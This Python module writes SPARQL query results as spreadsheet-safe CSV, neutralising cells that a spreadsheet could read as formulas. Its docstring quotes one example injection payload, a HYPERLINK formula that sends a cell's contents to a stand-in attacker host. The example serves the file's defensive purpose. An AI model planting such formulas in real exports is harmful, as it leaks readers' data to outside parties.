"""CSV for people who open it in a spreadsheet, safe from CSV (formula) injection.

A cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return) is read by Excel, LibreOffice and Google Sheets as a formula: a
headline such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would
run on the reader's machine. As OWASP's "CSV Injection" guidance recommends,
such a cell is written with a single quote in front (``'=HYPERLINK(...)``)
and in double quotes, so the spreadsheet shows it as text. A cell that is
only a number (``-3``, ``+1.5e3``) is left as it is: it cannot be a formula.

The rows are written from SPARQL 1.1 JSON results: one column per variable,
as in the W3C SPARQL CSV format (an IRI as it is, a literal's text, a blank
node as ``_:id``), lines ending in CRLF.

Used by the saved queries' ``.csv`` (``kg.web.queries``) and by ``/sparql``
when a CSV is asked for with ``download=spreadsheet`` (the home page's CSV
download does). ``/sparql?format=csv`` without it is the W3C format, exact,
for programs.
"""

from __future__ import annotations

import json
import re
from dataclasses import replace

from kg.web.service import Answer

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def cell(text: str) -> str:
    """One CSV field: quoted where needed, and neutralised (``'`` in front, quoted) if it could be a formula."""
    risky = text.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(text)
    if risky:
        text = "'" + text
    if risky or any(c in text for c in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def term_text(term: dict | None) -> str:
    """A term of SPARQL JSON results as the W3C CSV format writes it."""
    if term is None:
        return ""
    if term["type"] == "bnode":
        return "_:" + term["value"]
    if term["type"] == "triple":
        parts = term["value"]
        return "<< " + " ".join(term_text(parts[k]) for k in ("subject", "predicate", "object")) + " >>"
    return term["value"]


def from_json(body: bytes) -> bytes:
    """SPARQL 1.1 JSON results (SELECT or ASK) as spreadsheet-safe CSV."""
    data = json.loads(body)
    if "boolean" in data:
        return b"true" if data["boolean"] else b"false"
    names = data["head"]["vars"]
    lines = [",".join(cell(n) for n in names)]
    lines += [",".join(cell(term_text(row.get(n))) for n in names) for row in data["results"]["bindings"]]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def wanted(args, tabular: str) -> bool:
    """True if a ``/sparql`` request asks for spreadsheet-safe CSV (``format=csv`` with ``download=spreadsheet``)."""
    return tabular == "csv" and args.get("download") == "spreadsheet"


def as_csv(answer: Answer) -> Answer:
    """An answer in JSON (``tabular`` or ``boolean``) turned into spreadsheet-safe CSV."""
    if answer.kind == "graph":
        return answer
    return replace(answer, format="csv", body=from_json(answer.body))
